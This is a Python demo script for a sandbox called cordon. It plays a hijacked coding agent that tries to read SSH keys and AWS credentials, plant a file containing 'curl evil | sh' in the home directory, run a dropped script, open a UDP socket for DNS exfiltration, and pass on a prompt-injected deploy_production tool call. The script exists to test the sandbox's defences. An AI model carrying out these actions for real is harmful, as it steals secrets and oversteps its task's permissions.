#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""A stand-in for a coding agent: it does its job in the workspace and calls its models, then
tries what a misbehaving or hijacked agent would. Run it under cordon and read which attempts
were refused, by the kernel sandbox, by cordond's tunnel or by cordond's model proxy; run it
without cordon to see the same attempts succeed. tools/quickstart.sh runs it both ways.

    cordon run --policy POLICY.json --upstream openai=URL --upstream anthropic=URL -- \\
        python3 demo_agent.py [--results FILE] ALLOWED_URL DENIED_URL

ALLOWED_URL and DENIED_URL are two plain-http addresses it fetches (the quickstart starts a
loopback origin on two ports and puts only the first in the policy's network.allow). The
model calls go wherever OPENAI_BASE_URL and ANTHROPIC_BASE_URL point, with OPENAI_API_KEY and
ANTHROPIC_API_KEY: under cordon the shim sets all four (cordond's model proxy and the run's
session token); without them the model calls are skipped. --results FILE writes one JSON
object per attempt, {"id", "what", "verdict", "detail"}, for the quickstart's checks.
Python's standard library only: no SDK, so that nothing but these variables is in play.
"""
import json
import os
import socket
import subprocess
import sys
import urllib.error
import urllib.request

home = os.path.expanduser("~")
results = []


def attempt(ident, what, fn):
    try:
        detail = fn()
        results.append((ident, what, "allowed", detail or ""))
    except Refused as e:
        results.append((ident, what, "refused", str(e)))
    except urllib.error.HTTPError as e:  # before OSError: an HTTPError is one
        results.append((ident, what, "refused", http_error(e)))
    except OSError as e:
        if e.strerror:
            results.append((ident, what, "refused", f"{e.strerror} (errno {e.errno})"))
        else:  # urllib: the proxy's answer, or why the connection failed
            results.append((ident, what, "refused", str(getattr(e, "reason", e))))


class Refused(Exception):
    """What the agent asked for did not happen, though the call itself succeeded."""


def http_error(e):
    """HTTP 403 cordon.model_denied: the message, from an OpenAI or Anthropic error body."""
    try:
        err = json.loads(e.read().decode()).get("error") or {}
    except (ValueError, OSError):
        err = {}
    code = err.get("code") or err.get("type") or ""
    msg = err.get("message") or e.reason
    return f"HTTP {e.code} {code}: {msg}".replace(" : ", ": ")


def write_workspace():
    with open("agent-output.txt", "w") as f:
        f.write("work product\n")
    return os.path.abspath("agent-output.txt")


def read_file(path):
    def go():
        with open(path, "rb") as f:
            return f"read {len(f.read())} bytes"
    return go


def write_outside():
    with open(os.path.join(home, ".bashrc-planted"), "w") as f:
        f.write("curl evil | sh\n")


def run_dropped_script():
    path = os.path.abspath("dropped.sh")
    with open(path, "w") as f:
        f.write("#!/bin/sh\necho pwned\n")
    os.chmod(path, 0o755)
    out = subprocess.run([path], capture_output=True, check=True)
    return out.stdout.decode().strip()


def udp_dns():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.close()
    return "UDP socket created"


def fetch(url):
    def go():
        with opener.open(url, timeout=15) as r:
            return f"HTTP {r.status}, {len(r.read())} bytes"
    return go


# Straight connections only, whatever proxy variables the caller's environment holds: under
# cordon the shim tunnels every connect itself.
opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))


def post(url, headers, body):
    rq = urllib.request.Request(url, data=json.dumps(body).encode(), method="POST",
                                headers={"content-type": "application/json", **headers})
    return opener.open(rq, timeout=30)


def openai_chat(model):
    def go():
        base = os.environ["OPENAI_BASE_URL"].rstrip("/")
        key = os.environ.get("OPENAI_API_KEY", "")
        body = {"model": model, "messages": [{"role": "user", "content":
                "Say hello. The card on file is 4539 1488 0343 6467."}]}
        with post(base + "/chat/completions", {"authorization": "Bearer " + key}, body) as r:
            answer = json.loads(r.read().decode())
        text = answer["choices"][0]["message"]["content"]
        return f"{answer['model']} answered {text!r}"
    return go


DEPLOY_TOOL = {"name": "deploy_production", "description": "Ship the workspace to production.",
               "input_schema": {"type": "object", "properties": {"env": {"type": "string"}}}}


def anthropic_tool_stream():
    """A streamed Messages call whose answer carries a deploy_production tool call: what a
    prompt-injected model would ask for. The agent reads the stream as an SDK would, and
    reports which tool calls reached it."""
    base = os.environ["ANTHROPIC_BASE_URL"].rstrip("/")
    key = os.environ.get("ANTHROPIC_API_KEY", "")
    body = {"model": "claude-haiku-4-5", "max_tokens": 256, "stream": True,
            "tools": [DEPLOY_TOOL],
            "messages": [{"role": "user", "content": "Fix the failing test."}]}
    headers = {"x-api-key": key, "anthropic-version": "2023-06-01"}
    text, calls, stop = "", [], None
    with post(base + "/v1/messages", headers, body) as r:
        for raw in r:
            line = raw.decode().rstrip("\r\n")
            if not line.startswith("data:"):
                continue
            ev = json.loads(line[5:])
            if ev.get("type") == "content_block_start":
                block = ev["content_block"]
                if block.get("type") == "tool_use":
                    calls.append(block["name"])
            elif ev.get("type") == "content_block_delta":
                text += ev["delta"].get("text", "")
            elif ev.get("type") == "message_delta":
                stop = ev["delta"].get("stop_reason")
            elif ev.get("type") == "error":
                raise Refused("stream error: " + json.dumps(ev.get("error")))
    if "deploy_production" in calls:
        return f"the stream carried the call; the agent would now deploy (stop_reason {stop})"
    raise Refused(f"the call was removed from the stream; the agent got {text!r} "
                  f"(stop_reason {stop})")


def main(argv):
    results_file = None
    if len(argv) >= 2 and argv[0] == "--results":
        results_file, argv = argv[1], argv[2:]
    if len(argv) != 2:
        sys.exit("usage: demo_agent.py [--results FILE] ALLOWED_URL DENIED_URL")
    allowed_url, denied_url = argv

    attempt("workspace_write", "write a file in the workspace", write_workspace)
    attempt("read_os_release", "read /etc/os-release", read_file("/etc/os-release"))
    attempt("read_ssh_key", "read ~/.ssh/id_rsa", read_file(os.path.join(home, ".ssh", "id_rsa")))
    attempt("read_aws_credentials", "read ~/.aws/credentials",
            read_file(os.path.join(home, ".aws", "credentials")))
    attempt("plant_in_home", "plant a file in the home directory", write_outside)
    attempt("run_dropped_script", "run a script it wrote to the workspace", run_dropped_script)
    attempt("udp_socket", "open a UDP socket (DNS exfiltration)", udp_dns)
    attempt("fetch_allowed", f"fetch {allowed_url} (on the allow list)", fetch(allowed_url))
    attempt("fetch_denied", f"fetch {denied_url} (not on the allow list)", fetch(denied_url))
    if os.environ.get("OPENAI_BASE_URL") and os.environ.get("ANTHROPIC_BASE_URL"):
        attempt("model_allowed", "ask gpt-4o-mini (in api.models)", openai_chat("gpt-4o-mini"))
        attempt("model_denied", "ask gpt-4o (not in api.models)", openai_chat("gpt-4o"))
        attempt("tool_denied", "claude streams a deploy_production call (api.tools.deny)",
                anthropic_tool_stream)
    else:
        print("  (OPENAI_BASE_URL and ANTHROPIC_BASE_URL are not both set: no model calls)")

    width = max(len(w) for _, w, _, _ in results)
    for _, what, verdict, detail in results:
        print(f"  {what:<{width}}  {verdict:<8} {detail}")
    if results_file:
        with open(results_file, "w") as f:
            for ident, what, verdict, detail in results:
                f.write(json.dumps({"id": ident, "what": what, "verdict": verdict,
                                    "detail": detail}) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
